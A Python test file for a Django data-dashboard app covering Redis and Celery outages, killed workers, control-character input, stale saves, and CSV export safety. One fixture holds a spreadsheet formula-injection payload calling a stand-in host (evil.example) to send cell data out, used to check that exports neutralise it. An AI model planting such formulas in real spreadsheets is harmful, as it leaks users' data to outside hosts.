"""When a part fails: a Redis of the test's own, stopped while pages load.

The shared Redis at 6379 is never stopped: each test here starts its own ``redis-server`` on a
free port and stops that one.
"""

import shutil
import socket
import subprocess
import time

import pytest
from django.core.cache import caches
from django.urls import reverse

from common.queues import queues_for
from measures.models import Publication
from tests.test_dashboards import goal_with, rate

pytestmark = pytest.mark.skipif(not shutil.which("redis-server"), reason="needs redis-server")


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


class OwnRedis:
    def __init__(self, port: int | None = None):
        self.port = port or _free_port()
        self.process = subprocess.Popen(
            ["redis-server", "--port", str(self.port), "--save", "", "--appendonly", "no"],
            stdout=subprocess.DEVNULL,
        )
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            try:
                socket.create_connection(("127.0.0.1", self.port), timeout=0.2).close()
                return
            except OSError:
                time.sleep(0.05)
        raise RuntimeError("redis-server did not start")

    @property
    def url(self) -> str:
        return f"redis://127.0.0.1:{self.port}/0"

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.terminate()
            self.process.wait(10)


@pytest.fixture
def own_redis(settings):
    redis = OwnRedis()
    settings.CACHES = {
        "default": {
            "BACKEND": "django.core.cache.backends.redis.RedisCache",
            "LOCATION": redis.url,
            "OPTIONS": {"socket_connect_timeout": 1, "socket_timeout": 1},
        }
    }
    yield redis
    redis.stop()


PAGES = [
    ("backbone", "dashboard", ()),
    ("backbone", "indicator_dashboard", ("grad-rate",)),
    ("anonymous", "public_dashboard", ()),
    ("anonymous", "public_indicator", ("grad-rate",)),
    ("backbone", "console", ()),
    ("backbone", "network", ()),
    ("member", "dashboard", ()),
]


@pytest.mark.django_db
def test_every_page_serves_with_its_redis_stopped(world, own_redis, caplog):
    goal_with(world.share)
    rate(world.share, "2022", 58, 100)
    Publication.objects.update_or_create(pk=1, defaults={"public": True, "for_funders": True})
    users = {"backbone": world.backbone, "member": world.member_a, "anonymous": None}
    urls = [(users[role], reverse(name, args=args)) for role, name, args in PAGES]

    for user, url in urls:  # warm: the pages cache what they computed
        assert world.client(user).get(url).status_code == 200, url
    assert caches["default"].get("absent") is None  # the cache works

    own_redis.stop()
    for user, url in urls:
        response = world.client(user).get(url)
        assert response.status_code == 200, url
    assert "Cache unreachable" in caplog.text


# The broker stopped during an approval -------------------------------------------------------


@pytest.fixture
def broker(own_redis, settings):
    """The Celery app on the test's own Redis, tasks sent to queues of this test's own (its
    base, and the kinds' queues named from it)."""
    from config.celery_app import app

    queue = f"test-{own_redis.port}"
    saved = {key: app.conf[key] for key in ("task_always_eager", "task_default_queue")}
    saved_url = app.conf.broker_url
    app.conf.update(task_always_eager=False, task_default_queue=queue, broker_url=own_redis.url)
    _forget_connections(app)  # connections are made anew, to this broker
    try:
        yield app, queue
    finally:
        app.conf.update(saved, broker_url=saved_url)
        _forget_connections(app)


def _forget_connections(app) -> None:
    app._pool = None
    app.amqp._producer_pool = None


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_an_approval_made_while_the_broker_is_down_is_rolled_up_once_it_is_back(
    world, own_redis, broker
):
    from celery.contrib.testing.worker import start_worker

    from common import outbox
    from common.models import OutboxMessage
    from measures.models import Aggregate, Submission, SubmissionStatus
    from tests.conftest import YEAR, lead_submits
    from tests.test_worker_integration import wait_for

    app, queue = broker
    lead_submits(world)

    own_redis.stop()
    response = world.client(world.backbone).post(
        reverse("report_approve", args=[world.org_a.slug, YEAR])
    )
    assert response.status_code == 302  # was 500, with the roll-up lost
    assert Submission.objects.get().status == SubmissionStatus.APPROVED
    # The roll-up and the email telling the organization, both waiting for the broker.
    waiting = OutboxMessage.objects.filter(sent_at__isnull=True)
    assert sorted(waiting.values_list("task", "attempts")) == [
        ("communication.tasks.email_notifications", 1),
        ("measures.tasks.rollup_report", 1),
    ]
    assert not Aggregate.objects.exists()

    # A fresh server on the same port: the broker is back.
    own_redis.process = OwnRedis(own_redis.port).process
    with start_worker(app, pool="solo", perform_ping_check=False, queues=queues_for(queue)):
        assert outbox.dispatch_pending(grace=outbox.timedelta(0)) == 2  # what beat does
        region = Aggregate.objects.filter(scope_type="region", dimension_code="")
        assert wait_for(lambda: region.count() == 2), "the roll-up was lost"
        done = OutboxMessage.objects.filter(done_at__isnull=False)
        assert wait_for(done.exists), "the worker did not mark its message done"
    assert not OutboxMessage.objects.filter(sent_at__isnull=True).exists()


# Hostile input ---------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url",
    [
        "/updates/?q=%00",
        "/occupations/?q=a%00b",
        "/meetings/new/?x=%00",
        "/occupations/%00/",
        "/updates/?q=%1b",
    ],
)
def test_control_characters_answer_400_with_a_message(world, url):
    response = world.client(world.backbone).get(url)
    assert response.status_code == 400
    assert "control character" in response.text


@pytest.mark.django_db
def test_control_characters_in_the_api_answer_its_json_400(world):
    response = world.client(world.backbone).get("/api/indicators/?x=%00")
    assert response.status_code == 400
    assert "control character" in response.json()["error"]


@pytest.mark.django_db
def test_a_control_character_in_a_form_field_changes_nothing(world):
    from communication.models import Post

    posting_as = f"org:{world.backbone_org.pk}"
    response = world.client(world.backbone).post(
        reverse("post_create"), {"posting_as": posting_as, "title": "Hello\x00", "body": "Text"}
    )
    assert response.status_code == 400
    assert not Post.objects.exists()
    # Tabs and line breaks are text.
    response = world.client(world.backbone).post(
        reverse("post_create"),
        {"posting_as": posting_as, "title": "Hello", "body": "Line one\r\n\tLine two"},
    )
    assert response.status_code == 302


FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Durham")'


def test_csv_cells_that_would_start_a_formula_are_written_as_text():
    import io

    from common import spreadsheet

    out = io.StringIO()
    spreadsheet.Writer(out).writerow([FORMULA, "+1", "-x", "@SUM(A1)", "\tx", "Durham", -5, "3"])
    assert out.getvalue().startswith("\"'=HYPERLINK(")
    assert ",'+1,'-x,'@SUM(A1),'\tx,Durham,-5,3" in out.getvalue()


@pytest.mark.django_db
def test_the_api_csv_neutralises_a_county_named_like_a_formula(world):
    from tests.test_dashboards import agg

    world.org_a.county = FORMULA
    world.org_a.save()
    agg(world.count, "2022", 120, scope="county", scope_key=FORMULA)
    response = world.client(world.backbone).get(
        reverse("api_indicator_values", args=[world.count.code]),
        {"scope": "county", "key": FORMULA, "format": "csv"},
    )
    assert response.status_code == 200
    text = response.content.decode()
    assert "'=HYPERLINK(" in text
    assert ",=HYPERLINK(" not in text and not text.startswith("=")


# Reserved words -------------------------------------------------------------------------------


def test_reserved_words_come_from_the_routes():
    from common.routes import reserved_words
    from partners.forms import SLUG_ROUTES as ORGANIZATION_ROUTES
    from pathways.forms import SLUG_ROUTES as PATHWAY_ROUTES

    organization_words = reserved_words(*ORGANIZATION_ROUTES)
    assert {"new", "review", "calendar", "import"} <= organization_words
    assert "new" in reserved_words(*PATHWAY_ROUTES)
    assert "new" in reserved_words("working_group_detail")
    # Every one really is an address of the site's own.
    for word in organization_words:
        assert any(
            reverse(name).startswith((f"/organizations/{word}/", f"/reports/{word}/"))
            for name in ("organization_create", "review_queue", "report_calendar", "import_values")
        ), word


@pytest.mark.django_db
def test_an_organization_may_not_take_a_reserved_short_name(world):
    from common.routes import reserved_words
    from partners.forms import SLUG_ROUTES
    from partners.models import Organization

    client = world.client(world.backbone)
    for word in sorted(reserved_words(*SLUG_ROUTES)):
        response = client.post(
            reverse("organization_create"),
            {"name": f"Org {word}", "slug": word, "sector_type": "nonprofit", "county": "Durham"},
        )
        assert response.status_code == 400, word
        assert "a word the site uses in its addresses" in response.text
        assert not Organization.objects.filter(slug=word).exists()


@pytest.mark.django_db
def test_anonymous_query_strings_add_no_cache_entries(world):
    from django.core.cache import cache

    goal_with(world.share)
    rate(world.share, "2022", 58, 100)
    Publication.objects.update_or_create(pk=1, defaults={"public": True, "for_funders": True})
    url = reverse("public_indicator", args=[world.share.code])
    visitor = world.client(None)
    assert visitor.get(url).status_code == 200
    assert visitor.get(url, {"period_type": "year"}).status_code == 200
    assert visitor.get(reverse("public_dashboard")).status_code == 200
    before = len(cache._cache)
    for n in range(50):
        visitor.get(url, {"junk": n})
        visitor.get(url, {"period_type": "year", "junk": n})
        visitor.get(reverse("public_dashboard"), {"junk": n, "level": f"x{n}"})
    assert len(cache._cache) == before


# A worker that died ----------------------------------------------------------------------------


@pytest.mark.django_db
def test_work_a_dead_worker_never_finished_is_sent_again(world, django_capture_on_commit_callbacks):
    """A roll-up sent to a worker that was killed: its message was sent, never done. Beat
    sends it again once it is older than the task can run; a starting worker at once."""
    from datetime import timedelta

    from django.utils import timezone

    from common import outbox
    from common.models import OutboxMessage
    from measures import actions, tasks
    from measures.models import Aggregate, RollupRun
    from tests.conftest import lead_submits

    lead_submits(world)
    from measures.models import Submission

    submission = Submission.objects.get()
    with transaction_without_sending():
        actions.approve(submission, by=world.backbone)
    message = OutboxMessage.objects.get(task=tasks.rollup_report.name)
    # As if a worker took it and died: sent, never done, nothing rolled up.
    OutboxMessage.objects.filter(pk=message.pk).update(sent_at=timezone.now(), attempts=1)
    dead_run = RollupRun.objects.create(kind=RollupRun.Kind.FULL)  # left "running"
    assert not Aggregate.objects.exists()

    assert outbox.resend_unfinished() == 0  # too young for beat to call its worker dead
    later = timezone.now() + timedelta(minutes=11)
    assert outbox.resend_unfinished(now=later) == 1
    assert Aggregate.objects.filter(scope_type="region").exists()
    tasks.rebuild_all_aggregates()
    dead_run.refresh_from_db()
    assert dead_run.status == RollupRun.Status.FAILED
    assert "worker stopped" in dead_run.detail


class transaction_without_sending:
    """Record outbox messages without sending them (as when the commit's sending is lost)."""

    def __enter__(self):
        from unittest import mock

        from common import outbox

        self.patch = mock.patch.object(outbox.transaction, "on_commit", lambda fn: None)
        self.patch.start()

    def __exit__(self, *exc):
        self.patch.stop()


def _worker(redis_url: str, queue: str) -> subprocess.Popen:
    """A real Celery worker in a process of its own, on the test's database and Redis."""
    import os
    import sys

    from django.db import connection

    db = connection.settings_dict
    env = {
        **os.environ,
        "DJANGO_SETTINGS_MODULE": "config.settings",
        "DEBUG": "true",
        "DATABASE_URL": f"postgres://{db['USER']}@{db['HOST']}:{db['PORT']}/{db['NAME']}",
        "REDIS_URL": redis_url,
        "CELERY_QUEUE": queue,
    }
    return subprocess.Popen(
        [
            sys.executable,
            "-m",
            "celery",
            "-A",
            "config",
            "worker",
            "--pool",
            "solo",
            "--loglevel",
            "warning",
            "--without-gossip",
            "--without-mingle",
            "--without-heartbeat",
        ],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_a_worker_killed_during_a_rollup_loses_nothing(world, own_redis, broker):
    """The worker is killed (SIGKILL) while its roll-up waits inside the task; a new worker
    runs it again, and the figures equal a full rebuild."""
    import os
    import signal

    import psycopg
    from django.db import connection

    from common.models import OutboxMessage
    from measures import actions, rollups
    from measures.models import Aggregate, Submission
    from measures.rollups import LOCK_KEY
    from tests.conftest import lead_submits
    from tests.test_worker_integration import wait_for

    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL")
    lead_submits(world)
    # Hold the roll-up lock, so the worker's roll-up is caught in the middle of its task.
    db = connection.settings_dict
    holder = psycopg.connect(
        host=db["HOST"], port=db["PORT"], user=db["USER"], dbname=db["NAME"], autocommit=False
    )
    holder.execute("SELECT pg_advisory_xact_lock(%s)", [LOCK_KEY])
    _app, queue = broker
    worker = _worker(own_redis.url, queue)
    try:
        actions.approve(Submission.objects.get(), by=world.backbone)
        message = OutboxMessage.objects.get(task="measures.tasks.rollup_report")
        waiting = "SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND NOT granted"
        assert wait_for(lambda: holder.execute(waiting).fetchone()[0] == 1, 30), "not started"
        os.kill(worker.pid, signal.SIGKILL)  # the worker we started, by its pid
        worker.wait(10)
    finally:
        holder.rollback()
        holder.close()
    message.refresh_from_db()
    assert message.sent_at and message.done_at is None
    assert not Aggregate.objects.exists()

    worker = _worker(own_redis.url, queue)  # a new worker sends again what was never finished
    try:
        region = Aggregate.objects.filter(scope_type="region", dimension_code="")
        assert wait_for(lambda: region.count() == 2, 60), "the roll-up was lost"
        assert wait_for(lambda: OutboxMessage.objects.filter(done_at__isnull=False).exists(), 30)
    finally:
        worker.terminate()
        worker.wait(20)
    rolled = sorted(Aggregate.objects.values_list("scope_type", "scope_key", "value"))
    rollups.rebuild_all()
    assert sorted(Aggregate.objects.values_list("scope_type", "scope_key", "value")) == rolled


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_a_worker_killed_during_an_import_loses_nothing(world, own_redis, broker):
    """The worker is killed (SIGKILL) while its import job is under way; a new worker runs
    the job again and it finishes, with every value imported once."""
    import os
    import signal
    from datetime import timedelta

    import psycopg
    from django.db import connection

    from common import outbox
    from measures import import_jobs
    from measures.models import DataValue, ImportJob
    from tests.test_imports import good_file
    from tests.test_worker_integration import wait_for

    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL")
    _app, queue = broker
    job = import_jobs.start(
        by=world.member_a, filename="values.csv", text=good_file(), approve=False
    )
    # Hold the job's row, so the worker's run is caught as it starts marking it running.
    db = connection.settings_dict
    holder = psycopg.connect(
        host=db["HOST"], port=db["PORT"], user=db["USER"], dbname=db["NAME"], autocommit=False
    )
    holder.execute("SELECT id FROM measures_importjob WHERE id = %s FOR UPDATE", [job.pk])
    worker = _worker(own_redis.url, queue)
    try:
        outbox.dispatch_pending(grace=timedelta(0))
        waiting = "SELECT count(*) FROM pg_locks WHERE locktype = 'transactionid' AND NOT granted"
        assert wait_for(lambda: holder.execute(waiting).fetchone()[0] >= 1, 30), "not started"
        os.kill(worker.pid, signal.SIGKILL)  # the worker we started, by its pid
        worker.wait(10)
    finally:
        holder.rollback()
        holder.close()
    job.refresh_from_db()
    assert job.status != ImportJob.Status.DONE and not DataValue.objects.exists()

    worker = _worker(own_redis.url, queue)  # a new worker sends again what was never finished
    try:
        assert wait_for(
            lambda: ImportJob.objects.get(pk=job.pk).status == ImportJob.Status.DONE, 60
        ), "the import was lost"
    finally:
        worker.terminate()
        worker.wait(20)
    assert DataValue.objects.count() == 3


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_an_import_and_a_reopen_made_while_the_broker_is_down_are_done_once_it_is_back(
    world, own_redis, broker
):
    from datetime import timedelta

    from celery.contrib.testing.worker import start_worker
    from django.core.files.uploadedfile import SimpleUploadedFile

    from common import outbox
    from common.models import OutboxMessage
    from measures import actions
    from measures.models import Aggregate, ImportJob, Submission
    from tests.conftest import lead_submits
    from tests.test_imports import good_file
    from tests.test_worker_integration import wait_for

    app, queue = broker
    lead_submits(world)
    with start_worker(app, pool="solo", perform_ping_check=False, queues=queues_for(queue)):
        actions.approve(Submission.objects.get(), by=world.backbone)
        region = Aggregate.objects.filter(scope_type="region", dimension_code="")
        assert wait_for(lambda: region.count() == 2)

    own_redis.stop()
    response = world.client(world.backbone).post(
        reverse("report_reopen", args=[world.org_a.slug, "2024"]), {"reason": "A late fix."}
    )
    assert response.status_code == 302  # was 500
    response = world.client(world.lead_b).post(
        reverse("import_values"),
        {"file": SimpleUploadedFile("v.csv", good_file(world.org_b.slug).encode(), "text/csv")},
    )
    assert response.status_code == 302  # was 500, and the job stayed queued for ever
    # The reopen's roll-up and its email to the organization, and the import.
    assert OutboxMessage.objects.filter(sent_at__isnull=True).count() == 3

    own_redis.process = OwnRedis(own_redis.port).process  # the broker is back
    with start_worker(app, pool="solo", perform_ping_check=False, queues=queues_for(queue)):
        assert outbox.dispatch_pending(grace=timedelta(0)) == 3  # what beat does
        assert wait_for(lambda: ImportJob.objects.get().status == ImportJob.Status.DONE, 60)
        assert wait_for(lambda: not region.exists(), 30), "the reopen was not rolled up"


# Other shared data: a save from a stale page -------------------------------------------------


@pytest.mark.django_db
def test_an_organization_profile_saved_from_a_stale_page_is_refused(world):
    import re

    from partners.models import Organization
    from tests.test_partners import edit_data

    url = reverse("organization_edit", args=[world.org_a.slug])
    lead, staff = world.client(world.lead_a), world.client(world.backbone)
    loaded = re.search(r'name="loaded" value="([^"]+)"', lead.get(url).text).group(1)
    staff_page = staff.get(url).text
    staff_loaded = re.search(r'name="loaded" value="([^"]+)"', staff_page).group(1)
    assert loaded == staff_loaded
    data = edit_data(world.org_a, description="Staff wrote this.", loaded=staff_loaded)
    assert staff.post(url, data).status_code == 302
    response = lead.post(url, edit_data(world.org_a, description="Lead's text.", loaded=loaded))
    assert response.status_code == 400
    assert "Someone else saved this since you opened the page" in response.text
    assert "Lead&#x27;s text." in response.text or "Lead's text." in response.text
    assert Organization.objects.get(pk=world.org_a.pk).description == "Staff wrote this."
    fresh = re.search(r'name="loaded" value="([^"]+)"', response.text).group(1)
    again = lead.post(url, edit_data(world.org_a, description="Lead's text.", loaded=fresh))
    assert again.status_code == 302
    assert Organization.objects.get(pk=world.org_a.pk).description == "Lead's text."


@pytest.mark.django_db(transaction=True)
def test_two_profile_saves_at_once_from_the_same_page_one_is_refused(world, monkeypatch):
    """Both saves start together from the same page and the save itself is slow: the first
    check locks the row until its save commits, so the second waits, finds the row changed,
    and is refused; neither answers 500 and the first save is what is stored."""
    import re
    import threading

    from django.db import connection

    from partners import actions
    from partners.models import Organization
    from tests.test_partners import edit_data

    url = reverse("organization_edit", args=[world.org_a.slug])
    slow_save = actions.save_organization

    def save_slowly(*args, **kwargs):
        time.sleep(0.5)  # both checks have run by now unless one waits for the other
        return slow_save(*args, **kwargs)

    monkeypatch.setattr(actions, "save_organization", save_slowly)
    loaded = re.search(
        r'name="loaded" value="([^"]+)"', world.client(world.lead_a).get(url).text
    ).group(1)
    barrier = threading.Barrier(2)
    outcomes = {}

    def save(person, text):
        try:
            client = world.client(person)
            barrier.wait(5)
            response = client.post(url, edit_data(world.org_a, description=text, loaded=loaded))
            outcomes[text] = response.status_code
        finally:
            connection.close()

    threads = [
        threading.Thread(target=save, args=(world.lead_a, "Lead's text.")),
        threading.Thread(target=save, args=(world.backbone, "Staff's text.")),
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert sorted(outcomes.values()) == [302, 400], outcomes
    saved = next(text for text, status in outcomes.items() if status == 302)
    assert Organization.objects.get(pk=world.org_a.pk).description == saved


def test_every_view_that_saves_a_guarded_form_checks_under_a_row_lock():
    """A view that names a StaleGuardMixin form runs in one transaction (@guards_stale_saves),
    so the stale check and the save happen under one lock."""
    import contextlib
    import importlib
    import inspect
    import re

    from django.apps import apps
    from django.conf import settings as django_settings
    from django.urls import get_resolver

    from common.forms import StaleGuardMixin

    for config in apps.get_app_configs():
        if config.path.startswith(str(django_settings.BASE_DIR)):
            with contextlib.suppress(ModuleNotFoundError):
                importlib.import_module(f"{config.name}.forms")

    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    guarded = {cls.__name__ for cls in subclasses(StaleGuardMixin)}
    assert {"OrganizationForm", "PathwayForm", "IndicatorForm"} <= guarded

    def views(resolver):
        for pattern in resolver.url_patterns:
            if hasattr(pattern, "url_patterns"):
                yield from views(pattern)
            else:
                yield pattern.callback

    missing, checked = [], 0
    for view in set(views(get_resolver())):
        inner = inspect.unwrap(view)
        try:
            source = inspect.getsource(inner)
        except (OSError, TypeError):
            continue
        names = {name for name in guarded if re.search(rf"\b{name}\(", source)}
        if names:
            checked += 1
            if not getattr(view, "guards_stale_saves", False):
                missing.append(f"{inner.__module__}.{inner.__name__}")
    assert checked >= 15
    assert not missing, f"views without @guards_stale_saves: {missing}"


@pytest.mark.django_db
def test_an_indicator_saved_from_a_stale_page_is_refused(world):
    from measures.forms import IndicatorForm
    from measures.models import Indicator

    shown = IndicatorForm(instance=world.count)
    data = {
        name: field.widget.format_value(shown[name].value())
        if not isinstance(shown[name].value(), list)
        else shown[name].value()
        for name, field in shown.fields.items()
        if shown[name].value() not in (None, False)
    }
    data["name"] = "Enrolled (renamed by me)"
    Indicator.objects.filter(pk=world.count.pk).update(definition="Changed meanwhile.")
    form = IndicatorForm(data, instance=Indicator.objects.get(pk=world.count.pk))
    assert not form.is_valid()
    assert form.has_error("__all__", "stale")
    assert Indicator.objects.get(pk=world.count.pk).definition == "Changed meanwhile."


def test_every_csv_writes_true_false_and_plain_decimals():
    import io
    from decimal import Decimal

    from common import spreadsheet

    out = io.StringIO()
    spreadsheet.Writer(out).writerow([True, False, Decimal("83.0000"), Decimal("64.9606"), 3])
    spreadsheet.DictWriter(out, fieldnames=["a", "b"]).writerow({"a": False, "b": Decimal("1E+1")})
    assert out.getvalue().splitlines() == ["true,false,83,64.9606,3", "false,10"]
